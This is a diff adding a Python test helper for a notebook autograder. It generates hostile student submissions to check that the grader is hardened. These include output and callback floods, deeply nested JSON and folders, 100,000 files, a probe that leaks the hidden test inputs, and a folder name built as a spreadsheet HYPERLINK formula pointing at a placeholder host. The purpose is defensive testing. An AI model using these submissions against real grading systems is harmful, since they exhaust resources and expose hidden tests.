@@ -1,0 +1,199 @@
+"""Hostile submissions that target the grader rather than the grade, and a sampler of the
+grading processes' memory. Shared by tests/test_hardening.py and
+benchmarks/bench_grader_memory.py."""
+from __future__ import annotations
+
+import json
+import os
+import threading
+import time
+from pathlib import Path
+
+import psutil
+
+# Output attacks: each sends far more than a feedback page keeps, in a form the old output cap
+# did not count. Sizes stay under the sockets' 64 MiB cap per message.
+OUTPUT_ATTACKS = {
+    # 15 outputs with 40 MB of output metadata each
+    "atk_out_metadata": "from IPython.display import display\n"
+                        "for _ in range(15):\n"
+                        "    display({'text/plain': 'meta'}, raw=True, metadata={'pad': 'm' * 40_000_000})",
+    # one display updated 30 times with 20 MB each
+    "atk_out_updates": "from IPython.display import display, update_display\n"
+                       "display({'text/plain': 'start'}, raw=True, display_id='flood')\n"
+                       "for _ in range(30):\n"
+                       "    update_display({'text/plain': 'u' * 20_000_000}, raw=True, display_id='flood')",
+    # widget (comm) messages: 20 state updates of 20 MB
+    "atk_out_comms": "from ipykernel.comm import Comm\n"
+                     "c = Comm(target_name='jupyter.widget', data={'state': {'_model_name': 'X', '_model_module': 'x', 'pad': 'c'}})\n"
+                     "for _ in range(20):\n"
+                     "    c.send({'method': 'update', 'state': {'pad': 'c' * 20_000_000}})",
+    # an error whose message is 8 MB (kept, cut short)
+    "atk_out_error": "raise ValueError('e' * 8_000_000)",
+    # 700 MB written to the kernel's own standard output, past IPython's capture (the worker's log)
+    "atk_out_fd": "import os, sys\nfd = getattr(sys.stdout, '_original_stdstream_copy', None) or 1\n"
+                  "block = b'f' * (1 << 20)\nfor _ in range(700):\n    os.write(fd, block)",
+}
+
+# TODO 2's function asks the judge for TODO 1's stand-in over and over without ever reading the
+# answers: the judge's replies fill the pipe. The call must still end at the per-call limit.
+CALLBACK_FLOOD_TODO2 = """
+def estimate_handoff(payload_bytes, bandwidth_gbps, fixed_latency_ms, start_ms, cover_intervals):
+    import json, os, sys
+    fd = sys.modules['__main__']._CHANNEL  # the runner's message channel to the judge
+    line = (json.dumps({"op": "callback", "name": "compute_exposed_interval",
+                        "args": [[0.0, 1.0], [[0.0, 0.5]]], "kwargs": {}}) + "\\n").encode()
+    while True:
+        os.write(fd, line)
+"""
+
+
+class PeakMemory:
+    """Samples the resident memory (RSS) of a process and of each descendant whose command line
+    holds ``worker_marker``, every ``interval`` seconds, from /proc (psutil). ``peaks`` holds
+    the largest value seen for the root ("parent") and for any one worker ("worker")."""
+
+    def __init__(self, pid: int, worker_marker: str = "autograde.job", interval: float = 0.05):
+        self.root, self.marker, self.interval = psutil.Process(pid), worker_marker, interval
+        self.peaks = {"parent": 0, "worker": 0}
+        self._stop = threading.Event()
+        self._thread = threading.Thread(target=self._run, daemon=True)
+
+    def __enter__(self):
+        self._thread.start()
+        return self
+
+    def __exit__(self, *exc):
+        self._stop.set()
+        self._thread.join(timeout=5)
+
+    def _run(self):
+        while not self._stop.is_set():
+            try:
+                self.peaks["parent"] = max(self.peaks["parent"], self.root.memory_info().rss)
+                for child in self.root.children(recursive=True):
+                    try:
+                        if self.marker in " ".join(child.cmdline()):
+                            self.peaks["worker"] = max(self.peaks["worker"], child.memory_info().rss)
+                    except psutil.Error:
+                        pass
+            except psutil.Error:
+                return
+            time.sleep(self.interval)
+
+
+def write_json(path: Path, data) -> None:
+    path.write_text(json.dumps(data, indent=1))
+
+
+# ---------------------------------------------------------------- the hardening batch
+def deep_json(levels: int = 100_000) -> str:
+    """A file that is valid JSON nested ``levels`` deep: Python's json recurses on it."""
+    return '{"cells": ' + "[" * levels + "]" * levels + "}"
+
+
+def nested_folders(base: Path, levels: int) -> Path:
+    """``levels`` folders, one inside the next (one-letter names, to stay under PATH_MAX)."""
+    fd = os.open(base, os.O_RDONLY)
+    try:  # one level at a time, relative to the last: no path ever gets long
+        for _ in range(levels):
+            os.mkdir("d", dir_fd=fd)
+            inner = os.open("d", os.O_RDONLY, dir_fd=fd)
+            os.close(fd)
+            fd = inner
+        os.close(os.open("deep.ipynb", os.O_WRONLY | os.O_CREAT, dir_fd=fd))
+    finally:
+        os.close(fd)
+    return base
+
+
+def remove_nested(base: Path) -> None:
+    """Remove what ``nested_folders`` made, without recursion (shutil.rmtree, and so pytest's
+    clean-up of its temporary folders, recurses once per level): the folder below the top one
+    moves up a level, the emptied top one goes, and so on down."""
+    top, spare = base / "d", base / "d-up"
+    while top.is_dir():
+        for entry in os.scandir(top):
+            if entry.name != "d" and not entry.is_dir(follow_symlinks=False):
+                os.unlink(entry.path)
+        if not (top / "d").is_dir():
+            os.rmdir(top)
+            return
+        os.rename(top / "d", spare)
+        os.rmdir(top)
+        os.rename(spare, top)
+
+
+INPUTS_PROBE_TODO0 = """def check_overlap(a, b):
+    raise RuntimeError('inputs: ' + repr((a, b)))  # the feedback page shows what the hidden tests passed
+"""
+FORMULA_ID = '=HYPERLINK("https:example.invalid?"&A1,"open")'  # no '/': a folder name
+
+
+def build_hardening_batch(subs: Path, with_many_files: bool = True) -> dict[str, str]:
+    """Write the hardening batch's student folders under ``subs``: honest students, controls
+    and one attack class per student. Returns {student folder: what it tries}."""
+    from submissions import NOTEBOOKS, build, insert_after, mutate, write
+
+    nb01, nb02 = NOTEBOOKS[0], NOTEBOOKS[1]
+    plan: dict[str, str] = {}
+    for name in NOTEBOOKS:
+        write(subs, "honest", name, build(name))
+    plan["honest"] = "every notebook answered"
+    write(subs, "ctl_wrong2", nb02, build(nb02, mutate("todo2_solution", "bandwidth_gbps * 1e9 / 8 / 1000",
+                                                           "bandwidth_gbps * 1e9 / 1000")))
+    plan["ctl_wrong2"] = "control: TODO 2 with bits for bytes"
+    for student, source in OUTPUT_ATTACKS.items():
+        write(subs, student, nb01, insert_after(build(nb01), "todo0_solution", source))
+        plan[student] = "output flood: " + student.removeprefix("atk_out_")
+    write(subs, "atk_callback_flood", nb02, build(nb02, {"todo2_solution": CALLBACK_FLOOD_TODO2}))
+    plan["atk_callback_flood"] = "floods the judge with callbacks and never reads the replies"
+    # intake: JSON nested 100,000 deep, under the course's name and under another name
+    (subs / "atk_deep_json").mkdir(parents=True)
+    (subs / "atk_deep_json" / f"{nb01}.ipynb").write_text(deep_json())
+    (subs / "atk_deep_json" / "scratch.ipynb").write_text(deep_json())
+    plan["atk_deep_json"] = "JSON nested 100,000 deep"
+    (subs / "atk_deep_dirs").mkdir()
+    nested_folders(subs / "atk_deep_dirs", 1_300)
+    write(subs, "atk_deep_dirs", nb02, build(nb02))
+    plan["atk_deep_dirs"] = "folders nested 1,300 deep"
+    (subs / "atk_deep_both").mkdir()
+    inner = nested_folders(subs / "atk_deep_both", 40)
+    (inner / "x.ipynb").write_text(deep_json())
+    plan["atk_deep_both"] = "deep JSON at the top of deep folders"
+    if with_many_files:
+        crowd = subs / "atk_many_files" / "crowd"
+        crowd.mkdir(parents=True)
+        for i in range(100_000):
+            os.close(os.open(crowd / f"f{i}.ipynb", os.O_WRONLY | os.O_CREAT))
+        write(subs, "atk_many_files", nb01, build(nb01))
+        plan["atk_many_files"] = "100,000 files"
+    # ids: a spreadsheet formula, a trailing newline, one of the grader's own file names
+    write(subs, FORMULA_ID, nb01, build(nb01))
+    plan[FORMULA_ID] = "folder named like a spreadsheet formula"
+    write(subs, "newline\n", nb01, build(nb01))
+    plan["newline\n"] = "folder name with a trailing newline"
+    write(subs, "settings.json", nb01, build(nb01))
+    plan["settings.json"] = "a valid id equal to a grader file's name"
+    # hidden inputs: two identical files and one that differs by a comment
+    probe = build(nb01, {"todo0_solution": INPUTS_PROBE_TODO0})
+    write(subs, "atk_inputs_a1", nb01, probe)
+    write(subs, "atk_inputs_a2", nb01, probe)
+    write(subs, "atk_inputs_b", nb01, build(nb01, {"todo0_solution": INPUTS_PROBE_TODO0 + "# resubmitted\n"}))
+    for student in ("atk_inputs_a1", "atk_inputs_a2", "atk_inputs_b"):
+        plan[student] = "shows the hidden tests' inputs in its feedback"
+    try:
+        from page_attacks import PAYLOAD_CELLS, PAYLOAD_MARKDOWN
+    except ImportError:
+        PAYLOAD_CELLS, PAYLOAD_MARKDOWN = [], []
+    if PAYLOAD_CELLS:
+        import nbformat
+
+        nb = build(nb01)
+        for source in reversed(PAYLOAD_CELLS):
+            insert_after(nb, "todo0_solution", source)
+        for text in PAYLOAD_MARKDOWN:
+            nb.cells.insert(1, nbformat.v4.new_markdown_cell(text))
+        write(subs, "atk_pages", nb01, nb)
+        plan["atk_pages"] = "script in every output type"
+    return plan
